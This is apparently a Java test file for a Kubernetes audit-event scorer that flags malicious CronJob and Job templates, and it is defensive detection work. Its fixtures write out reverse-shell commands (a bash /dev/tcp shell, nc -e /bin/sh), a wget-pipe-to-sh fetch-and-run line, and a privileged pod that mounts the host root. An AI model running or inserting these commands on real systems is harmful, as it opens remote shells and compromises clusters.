package dev.cronsentinel.ingest;

import static dev.cronsentinel.ingest.AuditDecoderTest.CJ_REF;
import static dev.cronsentinel.ingest.AuditDecoderTest.event;
import static dev.cronsentinel.testing.TestData.decode;
import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.PodTemplate;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 7: a create, update or patch at level {@code RequestResponse} is scored on the stored object
 * ({@code responseObject}), not on what the client sent. The request is read only when there is no stored
 * template.
 */
class StoredObjectScoringTest {
    private static final String JOB_REF = "{\"resource\":\"jobs\",\"namespace\":\"ns\",\"name\":\"j\",\"apiGroup\":\"batch\",\"apiVersion\":\"v1\"}";

    private static String storedCronJob(String container) {
        return "{\"kind\":\"CronJob\",\"metadata\":{\"name\":\"cj\",\"uid\":\"u-cj\",\"managedFields\":[{\"manager\":\"kubectl\"}]},"
                + "\"spec\":{\"schedule\":\"*/5 * * * *\",\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"restartPolicy\":\"OnFailure\","
                + "\"containers\":[" + container + "]}}}}},\"status\":{}}";
    }

    private static ScoredEvent score(WorkloadEvent e) {
        return TestData.defaultScorer().score(e, EventRole.WORKLOAD);
    }

    private static WorkloadEvent single(String json) {
        TestData.Decoded d = decode(json);
        assertThat(d.deadLetters).isEmpty();
        assertThat(d.events).hasSize(1);
        return d.events.get(0);
    }

    @Test
    void aStrategicMergePatchOfOnlyArgsIsScoredOnTheStoredCommand() {
        // The patch carries a harmless-looking args list; only together with the stored command is it a shell.
        String patch = "\"requestObject\":{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":"
                + "[{\"name\":\"report\",\"args\":[\"-c\",\"exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5 | sh >&5\"]}]}}}}}},"
                + "\"responseObject\":" + storedCronJob("{\"name\":\"report\",\"image\":\"registry.internal/report:2\","
                        + "\"command\":[\"/bin/bash\"],\"args\":[\"-c\",\"exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5 | sh >&5\"]}");
        WorkloadEvent e = single(event("patch", CJ_REF, patch));

        assertThat(e.templates()).singleElement().satisfies(t -> {
            assertThat(t.source()).isEqualTo("responseObject");
            assertThat(t.path()).isEqualTo("responseObject.spec.jobTemplate.spec.template.spec");
            assertThat(t.containers().get(0).command()).containsExactly("/bin/bash");
            assertThat(t.containers().get(0).image()).isEqualTo("registry.internal/report:2");
        });
        ScoredEvent s = score(e);
        assertThat(s.alertable()).as("signals %s", s.signals()).isTrue();
        assertThat(s.signals()).allSatisfy(sig -> assertThat(sig.path()).startsWith("responseObject."));
    }

    @Test
    void whatTheClientClaimedDoesNotOverrideWhatWasStored() {
        // The request (for example rewritten by a mutating webhook on the way in) looks benign; the stored Job
        // mounts the host root privileged. Only the stored object runs, so only it is judged.
        String bodies = "\"requestObject\":{\"kind\":\"Job\",\"metadata\":{\"name\":\"j\"},\"spec\":{\"template\":{\"spec\":"
                + "{\"containers\":[{\"name\":\"a\",\"image\":\"registry.internal/app:1\"}]}}}},"
                + "\"responseObject\":{\"kind\":\"Job\",\"metadata\":{\"name\":\"j\",\"uid\":\"u-j\"},\"spec\":{\"template\":{\"spec\":"
                + "{\"hostPID\":true,\"containers\":[{\"name\":\"a\",\"image\":\"registry.internal/app:1\",\"securityContext\":{\"privileged\":true},"
                + "\"volumeMounts\":[{\"name\":\"root\",\"mountPath\":\"/host\"}]}],\"volumes\":[{\"name\":\"root\",\"hostPath\":{\"path\":\"/\"}}]}}}}";
        WorkloadEvent e = single(event("update", JOB_REF, bodies));
        PodTemplate t = e.templates().get(0);
        assertThat(e.templates()).hasSize(1);
        assertThat(t.source()).isEqualTo("responseObject");
        assertThat(t.hostPID()).isTrue();
        assertThat(t.containers().get(0).privileged()).isTrue();
        assertThat(t.volumes()).extracting(v -> v.hostPath()).containsExactly("/");
        assertThat(score(e).alertable()).isTrue();
    }

    @Test
    void aJsonPatchIsScoredOnTheStoredObjectWhateverOpsItUsed() {
        // A move from an annotation the rebuild cannot see into the args: the stored object has the result.
        String bodies = "\"requestObject\":[{\"op\":\"move\",\"from\":\"/metadata/annotations/x\","
                + "\"path\":\"/spec/jobTemplate/spec/template/spec/containers/0/args/1\"}],"
                + "\"responseObject\":" + storedCronJob("{\"name\":\"a\",\"image\":\"busybox:1.36\",\"command\":[\"sh\"],"
                        + "\"args\":[\"-c\",\"nc 203.0.113.9 9001 -e /bin/sh\"]}");
        WorkloadEvent e = single(event("patch", CJ_REF, bodies));
        assertThat(e.templates()).extracting(PodTemplate::source).containsExactly("responseObject");
        assertThat(e.templates().get(0).containers().get(0).args()).containsExactly("-c", "nc 203.0.113.9 9001 -e /bin/sh");
        assertThat(score(e).alertable()).isTrue();
    }

    @Test
    void aPatchThatLeavesTheTemplateAloneIsNotJudgedAgainOnIt() {
        // Suspending a CronJob whose stored template is malicious (remediation): the request changed no template.
        String stored = storedCronJob("{\"name\":\"a\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"wget -qO- http://203.0.113.66/s | sh\"]}");
        WorkloadEvent suspend = single(event("patch", CJ_REF, "\"requestObject\":{\"spec\":{\"suspend\":true}},\"responseObject\":" + stored));
        assertThat(suspend.templates()).isEmpty();
        WorkloadEvent jsonSuspend = single(event("patch", CJ_REF,
                "\"requestObject\":[{\"op\":\"replace\",\"path\":\"/spec/suspend\",\"value\":true}],\"responseObject\":" + stored));
        assertThat(jsonSuspend.templates()).isEmpty();
        // Anything on the template's way counts as touching it: a directive, the root, an op above the template.
        for (String request : new String[] {
                "{\"$patch\":\"replace\",\"spec\":{}}",
                "{\"spec\":{\"$setElementOrder/x\":[],\"suspend\":false}}",
                "{\"spec\":{\"jobTemplate\":{\"metadata\":{\"labels\":{\"a\":\"b\"}}}}}",
                "[{\"op\":\"replace\",\"path\":\"\",\"value\":{}}]",
                "[{\"op\":\"add\",\"path\":\"/spec\",\"value\":{}}]",
                "[{\"op\":\"move\",\"from\":\"/spec/jobTemplate/spec\",\"path\":\"/metadata/x\"}]"}) {
            WorkloadEvent e = single(event("patch", CJ_REF, "\"requestObject\":" + request + ",\"responseObject\":" + stored));
            assertThat(e.templates()).as(request).extracting(PodTemplate::source).containsExactly("responseObject");
            assertThat(score(e).alertable()).as(request).isTrue();
        }
    }

    @Test
    void withoutAStoredTemplateTheRequestIsRead() {
        String patch = "\"requestObject\":{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"hostNetwork\":true}}}}}}";
        // Level Request: no response at all.
        WorkloadEvent requestLevel = single(event("patch", CJ_REF, patch));
        assertThat(requestLevel.templates()).extracting(PodTemplate::source).containsExactly("patch");
        // A refused request answers with a Status, which is no stored object.
        WorkloadEvent status = single(event("patch", CJ_REF, patch + ",\"responseObject\":{\"kind\":\"Status\",\"code\":422}"));
        assertThat(status.templates()).extracting(PodTemplate::source).containsExactly("patch");
        // A response that carries only metadata (a trimmed exporter) has no template to score.
        WorkloadEvent metaOnly = single(event("patch", CJ_REF, patch + ",\"responseObject\":{\"metadata\":{\"uid\":\"u\"}}"));
        assertThat(metaOnly.templates()).extracting(PodTemplate::source).containsExactly("patch");
        assertThat(metaOnly.uid()).isEqualTo("u");
    }
}
